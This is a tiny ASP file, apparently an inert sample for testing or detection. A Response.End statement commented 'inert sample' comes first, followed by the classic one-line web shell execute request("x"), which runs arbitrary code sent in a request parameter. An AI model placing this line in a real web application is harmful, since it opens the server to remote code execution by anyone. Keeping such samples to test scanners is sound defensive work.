<% Response.End ' inert sample %>
<% execute request("x") %>
